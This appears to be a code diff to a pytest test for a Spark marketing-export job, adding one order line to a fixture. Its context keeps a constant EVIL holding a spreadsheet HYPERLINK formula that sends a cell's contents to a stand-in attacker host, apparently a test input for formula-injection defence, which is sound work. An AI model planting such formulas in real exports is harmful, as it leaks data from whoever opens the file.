@@ -22,7 +22,7 @@ from basketry.settings import Settings
 from basketry.tables import CUSTOMERS, HANDOVERS, MARKETING_AUDIENCE, OPT_OUTS, ORDER_LINES
 from basketry.withdrawals import DELIVERED, withdrawals_of
 from tests.spark_jobs.marketing.conftest import arguments
-from tests.spark_jobs.marketing.shop import AS_OF, LINEAGE, SALES, customer, put
+from tests.spark_jobs.marketing.shop import AS_OF, LINEAGE, SALES, customer, put, sale
 
 EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
 PEOPLE = (
@@ -57,7 +57,7 @@ def town(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Itera
         patch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{home / 'mlflow.db'}")
         lake = Lakehouse(spark, "demo", Settings.from_environment())
         put(lake, CUSTOMERS, list(PEOPLE))
-        put(lake, ORDER_LINES, [SALES[0]])
+        put(lake, ORDER_LINES, [SALES[0], sale("O9", None, "P1", AS_OF, "1")])  # the last tells of the day itself
         opt_out(lake, *BEFORE)
         job.run(lake, arguments())
         export.run(lake, arguments())
